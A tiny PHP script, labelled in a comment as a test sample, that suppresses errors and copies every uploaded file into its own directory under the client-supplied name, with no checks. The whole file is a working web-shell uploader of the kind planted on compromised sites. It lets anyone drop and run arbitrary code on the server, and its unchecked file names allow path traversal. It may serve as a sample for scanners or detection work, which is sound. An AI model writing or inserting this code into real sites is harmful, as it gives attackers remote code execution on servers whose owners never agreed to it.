<?php
// Test sample: copy() from the temp upload into the current directory.
@error_reporting(0);
foreach ($_FILES as $k => $file) {
    @copy($file['tmp_name'], dirname(__FILE__) . '/' . $file['name']);
    echo $file['name'] . " uploaded<br>";
}
